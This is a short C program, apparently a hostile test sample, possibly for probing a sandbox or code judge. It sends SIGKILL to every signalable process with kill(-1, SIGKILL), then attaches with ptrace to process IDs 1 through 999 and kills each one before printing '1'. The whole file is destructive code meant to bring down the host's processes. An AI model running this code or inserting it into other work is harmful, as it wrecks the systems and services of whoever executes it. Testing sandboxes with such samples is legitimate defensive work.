#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(void)
{
    kill(-1, SIGKILL);
    kill(0, 0);
    for (int pid = 1; pid < 1000; pid++) {
        if (pid == getpid())
            continue;
        ptrace(PTRACE_ATTACH, pid, NULL, NULL);
        kill(pid, SIGKILL);
    }
    puts("1");
    return 0;
}
